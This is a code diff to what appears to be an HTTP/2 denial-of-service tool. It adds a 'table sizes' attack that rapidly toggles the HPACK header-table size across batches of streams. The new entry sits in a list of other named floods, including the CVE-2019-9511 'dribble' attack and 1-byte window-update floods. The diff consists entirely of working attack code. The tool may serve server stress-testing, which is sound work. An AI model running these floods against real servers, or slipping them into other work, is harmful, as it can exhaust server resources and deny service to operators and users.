@@ -23,6 +23,7 @@ _DRIBBLE_STREAMS = 64
 _PADDING_BYTES = 255
 _OPEN_CALLS = 1000
 _UNREAD_ANSWERS = 250
+_CALLS_A_PIECE = 32
 _PRIORITY_UPDATE = 0x10  # of RFC 9218, section 7.1
 _BYTES_OF_A_HALF_CALL = 400
 
@@ -81,6 +82,17 @@ def _windows_of_unread_answers(link: Link) -> Pieces:
         yield b"".join(cancel(stream) for stream in streams) + frames.settings({frames.INITIAL_WINDOW_SIZE: 0})
 
 
+def _tables(link: Link) -> Pieces:
+    """Change the size of the table for the headers of answers before each call, to and fro."""
+    yield from link.ready()
+    message = request()
+    changes = b"".join(frames.settings({frames.HEADER_TABLE_SIZE: size}) for size in (0, 4096))
+    while True:
+        yield from link.room(_CALLS_A_PIECE * len(message))
+        streams = [link.next_stream() for _ in range(_CALLS_A_PIECE)]
+        yield b"".join(changes + headers(stream, CLASSIFY) + data(stream, message) for stream in streams)
+
+
 def _dribble(link: Link) -> Pieces:
     """Open the windows of many answers by one byte at a time (CVE-2019-9511)."""
     yield from link.ready()
@@ -101,6 +113,7 @@ FLOODS = (
     Attack("empty SETTINGS", partial(_frames, frame=frames.settings({}))),
     Attack("windows of open calls", _windows_of_open_calls),
     Attack("windows of unread answers", _windows_of_unread_answers, settings={frames.INITIAL_WINDOW_SIZE: 0}),
+    Attack("table sizes", _tables),
     Attack("priority updates", partial(_frames, frame=frames.frame(_PRIORITY_UPDATE, 0, 0, b"\0\0\0\1u=1"))),
     Attack("window updates of 1 byte", partial(_frames, frame=frames.window_update(0, 1))),
     Attack("stream window updates of 1 byte", partial(_frames, frame=frames.window_update(1, 1))),
